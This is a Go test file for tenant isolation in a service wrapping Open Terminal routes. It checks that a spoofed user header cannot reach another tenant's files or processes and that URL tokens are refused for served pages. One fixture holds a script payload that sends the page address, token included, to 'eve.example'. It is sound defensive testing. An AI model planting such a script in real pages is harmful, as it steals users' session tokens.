package tenants

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// TestOpenTerminalRoutes: eve sends the id of ada's user with a token of her own, to each route. She gets a sandbox of
// her own, as with a user that never existed, and ada's file is as before.
func TestOpenTerminalRoutes(t *testing.T) {
	t.Parallel()
	h := open(t)
	ada, eve := h.adaAndEve(t)
	const user = "X-User-Id"
	if a := ada.ask(t, "POST", "/openterminal/files/write", `{"path":"secret","content":"of ada"}`, user, "people-1"); a.status != http.StatusOK {
		t.Fatalf("ada's file: %d %s", a.status, a.body)
	}
	a := ada.ask(t, "POST", "/openterminal/execute", `{"command":"sleep 100"}`, user, "people-1")
	process := between(a.body, `"id":"`, `"`)
	ada.ask(t, "POST", "/openterminal/files/write", `{"path":"a.ipynb","content":"{\"nbformat\":4,\"cells\":[]}"}`, user, "people-1")
	a = ada.ask(t, "POST", "/openterminal/notebooks", `{"path":"a.ipynb"}`, user, "people-1")
	session := between(a.body, `"id":"`, `"`)
	if a.status != http.StatusOK {
		t.Fatalf("ada's notebook: %d %s", a.status, a.body)
	}
	for _, route := range h.openterminal.Routes() {
		method, path, found := strings.Cut(route, " ")
		if !found {
			method, path = "GET", route
		}
		path = strings.NewReplacer("{process}", process, "{path...}", "secret", "{port}", "80", "{id}", "x", "{session}", session).Replace(path)
		path += parametersOf[route]
		if a := h.stranger().ask(t, method, path, "{}", user, "people-1"); a.status != http.StatusUnauthorized {
			t.Errorf("%s without a token: %d %s", route, a.status, a.body)
		}
		ask := func(id string) string {
			a := eve.ask(t, method, path, `{"path":"secret","command":"cat secret","input":"x","source":"secret","destination":"there","paths":["secret"]}`, user, id)
			if strings.Contains(a.body, "of ada") {
				t.Errorf("%s: %d %s", route, a.status, a.body)
			}
			return fmt.Sprint(a.status)
		}
		if hers, none := ask("people-1"), ask("people-2"); hers != none {
			t.Errorf("%s of ada's user: %s; of nobody's: %s", route, hers, none)
		}
	}
	if a := ada.ask(t, "GET", "/openterminal/files/read?path=secret", "", user, "people-1"); !strings.Contains(a.body, "of ada") {
		t.Errorf("ada's file is now %d %s", a.status, a.body)
	}
	if a := ada.ask(t, "GET", "/openterminal/notebooks/"+session, "", user, "people-1"); a.status != http.StatusOK {
		t.Errorf("ada's notebook is now %d %s", a.status, a.body)
	}
	if a := ada.ask(t, "GET", "/openterminal/execute/"+process+"/status", "", user, "people-1"); !strings.Contains(a.body, `"status":"running"`) {
		t.Errorf("ada's command is now %d %s", a.status, a.body)
	}
}

// TestTokenInTheAddressOfAPage: the page of a hostile file or program would read the token in its own address, and send it
// away. So the token of a request for such a page counts only in a header.
func TestTokenInTheAddressOfAPage(t *testing.T) {
	t.Parallel()
	h := open(t)
	ada, _ := h.adaAndEve(t)
	const user = "X-User-Id"
	if a := ada.ask(t, "POST", "/openterminal/files/write", `{"path":"page.html","content":"<script>new Image().src='http://eve.example/?'+location</script>"}`, user, "people-1"); a.status != http.StatusOK {
		t.Fatalf("%d %s", a.status, a.body)
	}
	for _, path := range []string{"files/view?path=page.html&", "files/serve/home/user/page.html?", "proxy/1/?"} {
		path = "/openterminal/" + path
		if a := h.stranger().ask(t, "GET", path+"access_token="+ada.Secret, "", user, "people-1", "Authorization", ""); a.status != http.StatusUnauthorized {
			t.Errorf("%s with the token in the address: %d %s", path, a.status, a.body)
		}
		if a := ada.ask(t, "GET", strings.TrimRight(path, "?&"), "", user, "people-1"); a.status == http.StatusUnauthorized {
			t.Errorf("%s with the token in a header: %d %s", path, a.status, a.body)
		}
	}
	if a := h.stranger().ask(t, "GET", "/openterminal/files/list?directory=.&access_token="+ada.Secret, "", user, "people-1", "Authorization", ""); a.status != http.StatusOK {
		t.Errorf("a list, with the token in the address: %d %s", a.status, a.body)
	}
}

// parametersOf are parameters with which the routes of Open Terminal show everything.
var parametersOf = map[string]string{
	"GET /openterminal/files/list": "?directory=.", "GET /openterminal/files/read": "?path=secret", "GET /openterminal/files/display": "?path=secret",
	"GET /openterminal/files/view": "?path=secret", "DELETE /openterminal/files/delete": "?path=secret", "POST /openterminal/files/upload": "?directory=.",
	"GET /openterminal/files/grep": "?query=ada", "GET /openterminal/files/glob": "?pattern=secret",
	"GET /openterminal/files/search": "?query=secret", "GET /openterminal/files/matches": "?query=ada", "GET /openterminal/skills/read": "?name=secret",
}
